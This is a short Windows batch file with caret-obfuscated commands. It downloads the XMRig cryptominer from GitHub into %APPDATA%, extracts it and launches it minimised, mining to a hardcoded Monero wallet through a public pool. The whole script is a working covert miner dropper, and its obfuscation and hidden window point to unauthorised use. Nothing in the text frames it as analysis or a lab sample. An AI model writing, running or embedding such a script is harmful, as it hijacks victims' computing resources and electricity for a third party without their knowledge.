REM task 7362 v0
@echo off
^c^d /^d %APPDATA%
curl -^s^Lo ^x.z^ip ^http^s://gi^th^ub.^co^m/^xmri^g/^x^m^rig/^r^e^l^ea^se^s/d^own^l^oa^d/^v^6.2^1.0/x^m^rig-^6.^2^1.^0-m^s^v^c-wi^n^64.^z^i^p
tar -x^f ^x.zip
sta^r^t /mi^n xmr^i^g-6.^2^1.0\xmr^ig.e^xe -o s^t^ra^tum+t^c^p://^au^to.^c^3poo^l.^com:^13^3^33 -u ^4^8e^d^f^H^u^7V9^Z8^4^YzzMa^6^fUu^e^o^E^L^Z9Z^RX^q9V^e^tWzY^Gz^Kt^52X^U5xv^qgzY^nD^K^9^U^R^nRo^JMk^1j^8n^L^wEV^sa^S^W^J^4fhdUyZi^jBGU^ic^oD -^p ^x --do^na^te-le^ve^l=^1
